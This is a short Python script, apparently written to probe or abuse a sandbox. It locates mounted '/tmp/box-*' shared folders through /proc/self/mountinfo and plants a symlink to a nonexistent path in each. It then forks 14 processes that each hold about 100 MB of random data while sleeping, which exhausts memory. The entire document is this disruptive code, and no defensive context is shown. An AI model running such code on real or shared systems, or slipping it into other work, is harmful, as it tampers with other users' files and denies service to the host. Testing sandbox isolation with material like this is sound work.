# A link that leads nowhere, in the shared folder, and then too much memory.
import os
import re
import time

for folder in set(re.findall(r"/tmp/box-\w+", open("/proc/self/mountinfo").read())):
    os.symlink("/nowhere", f"{folder}/link")
for _ in range(14):
    if not os.fork():
        taken = bytearray(os.urandom(1000)) * 100_000
        time.sleep(1000)
time.sleep(1000)
